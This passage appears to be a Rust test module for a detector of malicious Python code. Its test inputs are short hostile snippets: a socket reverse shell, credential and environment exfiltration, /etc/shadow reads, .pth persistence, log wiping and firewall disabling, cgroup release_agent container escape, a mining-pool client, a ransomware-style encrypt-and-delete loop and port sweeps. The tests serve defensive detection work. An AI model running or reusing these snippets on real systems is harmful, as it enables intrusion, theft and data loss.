            certain(&extract("import json\nprint(json.dumps({}))")),
            None
        );
    }

    #[test]
    fn names_spelled_in_escapes() {
        // An obfuscator's opening: the builtins it calls, spelled in escapes.
        let src = r#"_a=eval("\x65\x76\x61\x6c");_b=_a("\143\157\155\x70\x69\154\x65");_c=_a(_b("\x5f\x5f\151\x6d\x70\157\162\x74\137\x5f\x28\47\142\x61\x73\145\x36\64\x27\x29","","eval"))"#;
        assert!(on(src, F::EscapedNames));
        assert_eq!(certain(&extract(src)), Some(F::EscapedNames));
        // One such string is not enough; binary data, bytes, and text with plain characters
        // between the escapes do not count.
        assert!(!on(r#"x = "\x41\x42\x43""#, F::EscapedNames));
        assert!(!on(
            r#"MAGIC = "\x7f\x45\x4c\x46"; SEP = "\x00\x01\x02"; B = b"\x65\x76\x61\x6c" + b"\x65\x76\x61\x6c""#,
            F::EscapedNames
        ));
        assert!(!on(
            r#"a = "caf\xe9 na\xefve"; b = "\x1b[31mred\x1b[0m""#,
            F::EscapedNames
        ));
        // Words spelled in escapes as test data (CPython's codec tests) name no code.
        assert!(!on(
            r#"T = ["\u0065\u0073\u006B\u0079", "\u006C\u0065\u006D\u0065\u006E\u0074"]"#,
            F::EscapedNames
        ));
    }

    /// Look-alikes of this session's behaviours in ordinary code stay quiet.
    #[test]
    fn ordinary_code_near_the_runtime_behaviours() {
        // A membership test is not a loop over the environment.
        let src =
            "import os\nif 'API_KEY' in os.environ:\n    params['key'] = os.environ['API_KEY']";
        assert!(!on(src, F::SecretDump));
        assert!(on(
            "import os\nprint({k: v for k, v in os.environ.items() if 'TOKEN' in k})",
            F::SecretDump
        ));
        // Reading a secret into a variable is not sending it; a keyword argument is.
        assert!(!on("data = open('.env').read()", F::SecretDump));
        assert!(on(
            "import requests\nrequests.post(u, data=open('/root/.aws/credentials'))",
            F::SecretDump
        ));
        // A log handle given as stdout is not run, even in a program that downloads.
        let src = "import subprocess, requests\nr = requests.get(u)\nwith open(p, 'w') as log:\n    log.write(r.text)\n    subprocess.run(cmd, stdout=log)";
        assert!(!on(src, F::RunDownloaded));
        // Appending to a log, flushing a firewall before adding rules, rotating logs.
        for src in [
            "import os\nos.system('job >> /var/log/job.log 2>&1')",
            "import os\nos.system('iptables -F && iptables -A INPUT -p tcp --dport 22 -j ACCEPT')",
            "import os\nos.system('rm -f /var/log/app/app.log.5')",
        ] {
            assert!(!on(src, F::DefenseEvasion), "{src}");
        }
        assert!(on(
            "import os\nos.system('cat /dev/null > /var/log/auth.log; history -c')",
            F::DefenseEvasion
        ));
        // Mounting a data disk is provisioning, not an escape.
        assert!(!on(
            "import subprocess\nsubprocess.run(['mount', '/dev/sdb1', '/data'])",
            F::EscapeRecon
        ));
        // A name read from a socket in one function and a command of the same name run far
        // away is not a remote shell loop; in the same loop it is.
        let far = format!(
            "data = sock.recv(1024)\n{}import os\nos.popen(data)",
            "x = 1\n".repeat(40)
        );
        assert!(!on(&far, F::ReceivedCommand));
        assert!(on(
            "while True:\n    data = sock.recv(1024)\n    os.popen(data).read()",
            F::ReceivedCommand
        ));
        // Words inside longer names spelled in escapes are not names of code.
        assert!(!on(
            r#"A = "\x66\x69\x6c\x65\x73\x79\x73\x74\x65\x6d"; B = "\x6f\x70\x65\x6e\x65\x64""#,
            F::EscapedNames
        ));
    }

    #[test]
    fn downloaded_files_that_are_run() {
        let src = "import urllib.request, subprocess\nurllib.request.urlretrieve(u, 'x.exe')\nsubprocess.run(['x.exe'])";
        assert!(on(src, F::RunDownloaded));
        let src = "import os, urllib.request\nd = '/tmp/.s'\nwith open(d, 'wb') as f:\n    f.write(urllib.request.urlopen(u).read())\nos.chmod(d, 0o755)";
        assert!(on(src, F::RunDownloaded));
        assert!(on(src, F::HiddenTmp));
        // Writing one file and running another is not it; nor running without a download.
        assert!(!on("import urllib.request, subprocess\nurllib.request.urlretrieve(u, 'a')\nsubprocess.run(['b'])", F::RunDownloaded));
        assert!(!on(
            "import subprocess\nopen(p, 'w').write(s)\nsubprocess.run([p])",
            F::RunDownloaded
        ));
        assert!(!on("x = '/tmp/build/out.o'", F::HiddenTmp));
        // A downloaded file put on sys.path (or given to zipimport) is imported, which runs it.
        let src = "import sys, tempfile, urllib.request, importlib
z = tempfile.NamedTemporaryFile(suffix='.zip', delete=False)
z.write(urllib.request.urlopen(u).read()); z.close()
sys.path.insert(0, z.name)
importlib.import_module('agent')";
        assert!(on(src, F::RunDownloaded));
        assert!(on(
            "import zipimport, urllib.request
urllib.request.urlretrieve(u, 'p.zip')
zipimport.zipimporter('p.zip').load_module('m')",
            F::RunDownloaded
        ));
        // A plugin directory put on sys.path, or output written to stdout, is not it.
        assert!(!on(
            "import sys, urllib.request
sys.stdout.write(urllib.request.urlopen(u).read().decode())
sys.path.insert(0, sys.argv[1])",
            F::RunDownloaded
        ));
        assert!(!on(
            "import sys, urllib.request
data = urllib.request.urlopen(u).read()
log.write(data)
sys.path.append(plugins)",
            F::RunDownloaded
        ));
    }

    #[test]
    fn hostile_and_look_alike_inputs() {
        // A huge separator joined over many items stays within the fold bound (this once
        // allocated separator × items bytes).
        let sep = "x".repeat(100_000);
        let items = vec!["''"; 20_000].join(",");
        let _ = extract(&format!("a = '{sep}'.join([{items}])"));
        // Names of Chrome's Local State file looked up once, not once per name.
        let _ = extract(&"Crypto.Cipher\n".repeat(50_000));
        // Two bytes of `MZ` in random base64, and rot13 of plain words, are not hidden code.
        assert_eq!(
            certain(&extract("x = 'TVprogramGuideProviderKey012'")),
            None
        );
        assert_eq!(
            certain(&extract("# rot13\nm = 'cevag gur erfhyg naq qrs'")),
            None
        );
        // A codec name is not an encoded literal; re.compile is not exec.
        assert!(!on("exec(src.decode('utf-8-sig'))", F::ExecLiteral));
        assert!(!on(
            "re.compile(base64.b64decode('aGVsbG8gd29ybGQ='))",
            F::ExecLiteral
        ));
        // A fold after a variable still happens.
        assert!(on("x = p + '/bin/' + 'sh'", F::ShellStr));
        // A file written and chmod-ed without execute bits is not run.
        assert!(!on("import os, urllib.request\nd = urllib.request.urlopen(u).read()\nopen(p, 'w').write(d)\nos.chmod(p, 0o600)", F::RunDownloaded));
    }

    #[test]
    fn shells_secrets_and_pth_files() {
        assert!(on("import socket,subprocess;s=socket.socket();s.connect(a);subprocess.Popen(['bash','-i'],stdin=s)", F::SockShell));
        assert!(on("print(open('/etc/shadow').read())", F::SecretRead));
        assert!(on("s.sendfile(open('/app/.env', 'rb'))", F::SecretRead));
        assert!(!on("print(open('/etc/hosts').read())", F::SecretRead));
        assert!(on(
            "import os\nprint({k: v for k, v in os.environ.items() if 'TOKEN' in k})",
            F::EnvSecrets
        ));
        assert!(on("import site; open(site.getsitepackages()[0] + '/x.pth', 'w').write('import os;os.system(\"id\")')", F::Persist));
        assert!(on("import site; open(site.getsitepackages()[0] + '/x.pth', 'w').write('import os;os.system(\"id\")')", F::OsSystem));
        assert!(!on("torch.save(model, 'model.pth')", F::Persist));
        assert!(on(
            "import urllib.request as u\nu.urlopen('http://x/e', data=b'1')",
            F::Post
        ));
    }

    #[test]
    fn secrets_dumped() {
        assert!(on("print(open('/etc/shadow').read())", F::SecretDump));
        assert!(on(
            "print(open(root + '/etc/shadow').read())",
            F::SecretRead
        ));
        assert!(on(
            "import requests\nrequests.post(u, data=open('/root/.aws/credentials').read())",
            F::SecretDump
        ));
        assert!(on(
            "import socket\ns = socket.create_connection(a)\ns.sendfile(open('/app/.env', 'rb'))",
            F::SecretDump
        ));
        // Read and kept, or a file that is not secret, is not dumped.
        assert!(!on(
            "t = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
            F::SecretDump
        ));
        assert!(!on("print(open('/etc/hostname').read())", F::SecretDump));
        assert!(!on(
            "print(open('/var/run/secrets/kubernetes.io/serviceaccount/namespace').read())",
            F::SecretDump
        ));
        // The whole environment sent out, or searched for secret names.
        assert!(on("import os,json,urllib.request\nurllib.request.urlopen('http://x/e', data=json.dumps(dict(os.environ)).encode())", F::SecretDump));
        assert!(on(
            "import os\nprint({k: v for k, v in os.environ.items() if any(s in k for s in ('TOKEN', 'SECRET'))})",
            F::SecretDump
        ));
        assert!(!on(
            "import os, requests\nrequests.post(u, json={'host': os.environ.get('HOSTNAME')})",
            F::SecretDump
        ));
        assert!(!on(
            "def app(environ, start):\n    requests.post(u, data=environ)",
            F::SecretDump
        ));
        assert!(!on(
            "import os\nprint({k: v for k, v in os.environ.items() if k.startswith('APP_')})",
            F::SecretDump
        ));
        // The cluster's secrets listed; one named secret read is not.
        assert!(on("u = api + '/api/v1/secrets'", F::SecretDump));
        assert!(on(
            "u = 'https://kubernetes.default.svc/api/v1/secrets?limit=500'",
            F::SecretDump
        ));
        assert!(!on(
            "u = 'https://kubernetes.default.svc/api/v1/secrets/' + name",
            F::SecretDump
        ));
        assert!(on(
            "u = '/api/v1/namespaces/%s/secrets' % ns",
            F::SecretDump
        ));
        assert!(!on(
            "u = '/api/v1/namespaces/%s/secrets/%s' % (ns, name)",
            F::SecretDump
        ));
    }

    #[test]
    fn defenses_taken_down() {
        assert!(on(
            "import os\nos.system('iptables -F 2>/dev/null; setenforce 0')",
            F::DefenseEvasion
        ));
        assert!(on(
            "open('/etc/ld.so.preload', 'w').write('/usr/local/lib/x.so')",
            F::DefenseEvasion
        ));
        assert!(on("import os,signal\nfor p in pids:\n    if b'xmrig' in open('/proc/%s/cmdline' % p, 'rb').read():\n        os.kill(int(p), signal.SIGKILL)", F::DefenseEvasion));
        // A miner that speaks the pool's protocol, with no pool address written out, and
        // kills its competitors between messages.
        let pool = "import socket, json, os\ns = socket.socket()\ns.connect((pool, 3333))\ns.send(json.dumps({'id': 1, 'method': 'login', 'params': {'login': wallet}}).encode())\nos.system('pkill -9 -f kinsing')\njob = json.loads(s.recv(4096))['result']['job']\ns.send(json.dumps({'method': 'submit', 'params': {'job_id': job['job_id'], 'nonce': n}}).encode())";
        assert!(on(pool, F::Stratum));
        assert!(on(pool, F::DefenseEvasion));
        // A client that logs in over a socket and stops its own helper speaks no pool protocol.
        let client = "import socket, json, os\ns = socket.socket()\ns.connect((host, 5222))\ns.send(json.dumps({'method': 'login', 'user': u}).encode())\nos.system('pkill -f helper')";
        assert!(!on(client, F::DefenseEvasion));
        assert!(!on(
            "open('/etc/ld.so.conf.d/app.conf', 'w').write('/opt/app/lib')",
            F::DefenseEvasion
        ));
        assert!(!on(
            "print(open('/etc/ld.so.preload').read())",
            F::DefenseEvasion
        ));
        assert!(!on(
            "import os,signal\nos.kill(int(open('/run/app.pid').read()), signal.SIGTERM)",
            F::DefenseEvasion
        ));
        assert!(!on(
            "import subprocess\nsubprocess.run(['iptables', '-L', '-n'])",
            F::DefenseEvasion
        ));
    }

    #[test]
    fn environment_sent_under_another_name() {
        for src in [
            "import os, requests\nrequests.post(u, json=dict(os.environ))",
            "import os as o, requests\nrequests.post(u, json=dict(o.environ))",
            "from os import environ as E\nimport requests\nrequests.post(u, json=dict(E))",
            "from os import environ\nimport socket\ns.sendall(str(environ).encode())",
        ] {
            assert!(on(src, F::SecretDump), "{src}");
        }
        // One value looked up is not the environment.
        assert!(!on(
            "from os import environ as E\nimport requests\nrequests.post(u, json={'v': E['APP_VERSION']})",
            F::SecretDump
        ));
    }

    #[test]
    fn container_escape_recon() {
        let src = "import os; os.listdir('/proc/1/root'); print(os.path.exists('/var/run/docker.sock'), open('/proc/self/status').read().split('CapEff:')[1])";
        assert!(on(src, F::EscapeRecon));
        // Host root, runtime socket and capability set: three kinds, an escape checklist.
        assert!(on(src, F::EscapeTechnique));
        // The runtime's socket is not a local service's address.
        assert!(!on(src, F::InternalUrl));
        // Two kinds (a Docker client checking its socket and its capabilities) are recon
        // for the model to weigh, not a checklist.
        let two =
            "import os\nif os.path.exists('/var/run/docker.sock') and 'CapEff' in caps: connect()";
        assert!(on(two, F::EscapeRecon));
        assert!(!on(two, F::EscapeTechnique));
        assert!(on(
            "import subprocess\nsubprocess.run(['mount', '/dev/' + d, '/mnt/h'])",
            F::EscapeProbe
        ));
        let release_agent = "import os\nos.system('mount -t cgroup -o memory cgroup /tmp/cg && echo 1 > /tmp/cg/x/notify_on_release')";
        assert!(on(release_agent, F::EscapeRecon));
        assert!(on(release_agent, F::EscapeTechnique));
        // The same escape written as an argument list (the form Python scripts use).
        let listed = "import subprocess, os\nsubprocess.run(['mount', '-t', 'cgroup', '-o', 'rdma', 'cgroup', d])\nopen(os.path.join(d, 'x', 'notify_on_release'), 'w').write('1')";
        assert!(on(listed, F::EscapeTechnique));
        // The options before the type, in either form.
        let options_first = "import subprocess, os\nsubprocess.run(['mount', '-o', 'rdma', '-t', 'cgroup', 'cgroup', d])\nopen(os.path.join(d, 'x', 'notify_on_release'), 'w').write('1')";
        assert!(on(options_first, F::EscapeTechnique));
        for command in [
            "mkdir /tmp/cg; mount -o memory -t cgroup cgroup /tmp/cg",
            "mount -o rdma --types cgroup cgroup /tmp/cg",
            "mount -tcgroup -o rdma cgroup /tmp/cg",
        ] {
            let src = format!(
                "import os\nos.system('{command}')\nopen('/tmp/cg/x/release_agent', 'w').write(p)"
            );
            assert!(on(&src, F::EscapeTechnique), "{command}");
        }
        // ansible-test's systemd hierarchy, mounted beside two kinds of probe, without a
        // release_agent: not a checklist of three.
        let tooling = "import os\nos.system('mount cgroup -t cgroup /sys/fs/cgroup/systemd -o none,name=systemd,xattr')\nos.path.exists('/var/run/docker.sock')\nopen('/proc/self/status').read().count('CapEff')";
        assert!(!on(tooling, F::EscapeTechnique));
        // Not a cgroup v1 mount: cgroup2 after the options, the word elsewhere in the line,
        // or `umount`.
        for command in [
            "mount -o nsdelegate -t cgroup2 none /sys/fs/cgroup",
            "mount /dev/sdb1 /data; echo cgroup -t cgroup",
            "umount -t cgroup /tmp/cg",
        ] {
            let src = format!("import os\nos.system('{command}')\nprint(open('/sys/fs/cgroup/release_agent').read())");
            assert!(!on(&src, F::EscapeTechnique), "{command}");
        }
        assert!(on(
            "import os\nos.system('mount /dev/sdb1 /mnt')",
            F::EscapeProbe
        ));
        assert!(!on(
            "import os\nos.system('umount /dev/sdb1')",
            F::EscapeProbe
        ));
        // A mount command given by its path; the list ends at its statement.
        assert!(mounts_cgroup_v1(
            "/bin/mount -o rdma -t cgroup cgroup /tmp/cg"
        ));
        let two_statements =
            "import subprocess\nc = 'mount'\nargs = ['-t', 'cgroup']\nprint('release_agent')";
        assert!(!on(two_statements, F::EscapeTechnique));
        // Many `mount`s in one string are each read up to the next: linear, and no match.
        let many = format!("-t cgroup {}", "mount ".repeat(50_000));
        assert!(!mounts_cgroup_v1(&many));
        assert!(mounts_cgroup_v1(&format!("{many}-o x -t cgroup cgroup /m")));
        let list_v2 = "import subprocess\nsubprocess.run(['mount', '-o', 'nsdelegate', '-t', 'cgroup2', 'none', '/sys/fs/cgroup'])\nprint('release_agent')";
        assert!(!on(list_v2, F::EscapeTechnique));
        // cgroup v2 has no release_agent: a hardening check that mounts it and names
        // release_agent is not the escape.
        let v2 = "import os\nos.system('mount -t cgroup2 none /mnt/cg')\nassert not os.path.exists('/mnt/cg/release_agent')";
        assert!(!on(v2, F::EscapeTechnique));
        // nsenter into pid 1 with one more probe is two kinds, not a checklist (it is
        // escape_recon all the same).
        let node = "import subprocess\nsubprocess.run(['nsenter', '-t', '1', '-m', '--', 'ctr', '-a', '/run/containerd/containerd.sock', 'images', 'ls'])";
        assert!(on(node, F::EscapeRecon));
        assert!(!on(node, F::EscapeTechnique));
        // A cgroup filesystem mounted by an init script is neither.
        let cgroup = "import subprocess\nsubprocess.run(['sh', '-c', 'mount -t cgroup2 none /sys/fs/cgroup'])";
        assert!(!on(cgroup, F::EscapeRecon));
        assert!(!on(cgroup, F::EscapeTechnique));
        assert!(on(
            "import subprocess\nsubprocess.call(['nsenter', '-t', '1', '-m', '--', 'sh'])",
            F::EscapeRecon
        ));
        assert!(!on(
            "import subprocess\nsubprocess.call(['nsenter', '-t', str(pid), '-n', 'ip', 'a'])",
            F::EscapeRecon
        ));
        // One probe alone, a tmpfs mount and a memory health check are not recon.
        assert!(!on(
            "import os\nprint(os.path.exists('/var/run/docker.sock'))",
            F::EscapeRecon
        ));
        assert!(!on(
            "import subprocess\nsubprocess.run(['mount', '-t', 'tmpfs', 'tmpfs', '/mnt/scratch'])",
            F::EscapeProbe
        ));
        assert!(!on(
            "print(open('/proc/self/status').read().split('VmRSS:')[1])",
            F::EscapeProbe
        ));
    }

    #[test]
    fn mining_protocol_spoken() {
        let src = "import socket, json\ns = socket.create_connection((h, 3333))\nsend({'method': 'login'})\nsend({'method': 'submit', 'params': {'job_id': j, 'nonce': n}})";
        assert!(on(src, F::Stratum));
        assert!(!on(
            "import requests\nrequests.post(u, json={'method': 'submit', 'job_id': j, 'nonce': n})",
            F::Stratum
        ));
    }

    #[test]
    fn socket_reads_run() {
        let src = "import socket,subprocess\ns=socket.socket()\ns.connect(a)\nwhile 1:\n    cmd = s.recv(1024)\n    s.send(subprocess.check_output(cmd, shell=True))";
        assert!(on(src, F::ReceivedCommand));
        assert_eq!(certain(&extract(src)), Some(F::ReceivedCommand));
        assert!(on("import asyncio\nasync def m():\n    reader, writer = await asyncio.open_connection(h, p)\n    line = await reader.readline()\n    await asyncio.create_subprocess_shell(line.decode())", F::ReceivedCommand));
        assert!(on(
            "import socket,subprocess\nsubprocess.run(s.recv(4096).decode(), shell=True)",
            F::ReceivedCommand
        ));
        assert!(!on(
            "import socket,subprocess\ndata = s.recv(1024)\nsubprocess.run(['logger', 'got'])",
            F::ReceivedCommand
        ));
        assert!(!on(
            "import gevent\ng = gevent.spawn(sock.recv, 1024)",
            F::ReceivedCommand
        ));
        // A hand-written HTTP request downloads; what comes back is executed nearby.
        let src = "import socket\ns = socket.create_connection((h, 80))\ns.sendall(b'GET /p HTTP/1.0\\r\\n\\r\\n')\nbuf = fetch(s)\nexec(compile(buf, 'x', 'exec'))\ndef fetch(s):\n    return s.recv(65536)";
        assert!(on(src, F::Fetch));
        assert!(on(src, F::SocketExec));
        assert!(!on(
            "import socket\ns = socket.create_connection((h, 6379))\ns.sendall(b'PING\\r\\n')\nprint(s.recv(64))",
            F::SocketExec
        ));
    }

    #[test]
    fn hidden_files_run() {
        let src = "import os, subprocess\nOUT = '/var/tmp/.d'\nos.chmod(OUT, 0o700)\nsubprocess.Popen([OUT])";
        assert!(on(src, F::RunHiddenTmp));
        assert!(!on(
            "import subprocess\nOUT = '/tmp/build/run.sh'\nsubprocess.run([OUT])",
            F::RunHiddenTmp
        ));
        assert!(on(
            "import tempfile\nz = tempfile.NamedTemporaryFile(prefix='.', suffix='.zip', delete=False, dir='/dev/shm')",
            F::HiddenTmp
        ));
        assert!(!on(
            "import tempfile\nz = tempfile.NamedTemporaryFile(prefix='.', dir='/srv/data')",
            F::HiddenTmp
        ));
        // The directory given to another call on the next line is not this file's.
        assert!(!on(
            "import tempfile, shutil\nz = tempfile.mkstemp(prefix='.', suffix='.lock')\nshutil.rmtree(path='/tmp')",
            F::HiddenTmp
        ));
        // Arguments that are calls themselves do not end the call early.
        assert!(on(
            "import tempfile, os\nz = tempfile.mkstemp(prefix='.', suffix=str(os.getpid()), dir=os.path.join('/dev/shm'))",
            F::HiddenTmp
        ));
    }

    #[test]
    fn files_encrypted_and_removed() {
        let ransom = "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(k)\n\
                      for d, _, names in os.walk('/data'):\n    for n in names:\n        \
                      p = os.path.join(d, n)\n        open(p + '.enc', 'wb').write(\
                      f.encrypt(open(p, 'rb').read()))\n        os.remove(p)\n";
        assert!(on(ransom, F::EncryptFiles));
        // Each part is needed: no removal, `list.remove`, no walk, no encryption.
        assert!(!on(
            &ransom.replace("os.remove(p)", "print(p)"),
            F::EncryptFiles
        ));
        assert!(!on(
            &ransom.replace("os.remove(p)", "names.remove(n)"),
            F::EncryptFiles
        ));
        assert!(!on(
            &ransom.replace("os.walk('/data')", "[]"),
            F::EncryptFiles
        ));
        assert!(!on(
            &ransom.replace("f.encrypt(", "bytes("),
            F::EncryptFiles
        ));
        // Pathlib and pycryptodome spellings.
        assert!(on(
            "from pathlib import Path\nfor p in Path('/srv').rglob('*'):\n    \
             c, t = cipher.encrypt_and_digest(p.read_bytes())\n    p.unlink()\n",
            F::EncryptFiles
        ));
        // Too far apart: not one loop.
        let apart = format!(
            "import os\nfiles = os.listdir('.')\n{}token = box.encrypt(b'x')\nos.remove('a')\n",
            "x = 1\n".repeat(WINDOW as usize + 2)
        );
        assert!(!on(&apart, F::EncryptFiles));
        // Methods of those names defined, not called.
        assert!(!on(
            "class Vault:\n    def listdir(self):\n        pass\n    def encrypt(self, b):\n        \
             pass\n    def remove(self, key):\n        pass\n",
            F::EncryptFiles
        ));
    }

    #[test]
    fn scan_sweeps() {
        assert!(on(
            "import socket\nfor i in range(1, 255):\n    s = socket.socket()\n    s.connect_ex(('10.0.0.%d' % i, 22))",
            F::ScanSweep
        ));
        assert!(on(
            "import socket\nfor p in (22, 80, 443, 6379):\n    socket.socket().connect_ex((h, p))",
            F::ScanSweep
        ));
        // One service waited for, or a port list without connects, is not a sweep.
        assert!(!on(
            "import socket\ns = socket.socket()\ns.connect_ex(('db', 5432))",
            F::ScanSweep
        ));
        assert!(!on("PORTS = [80, 443, 8080]", F::ScanSweep));
        assert!(!on(
            "import socket\nsizes = (1, 2, 3, 4)\nsocket.create_connection(a)",
            F::ScanSweep
        ));
        assert!(is_ip_sweep("10.42.0.%d"));
        assert!(is_ip_sweep("10.0.0.{i}"));
        assert!(!is_ip_sweep("1.2.%d"));
        assert!(!is_ip_sweep("v1.2.3.%d"));
    }
}
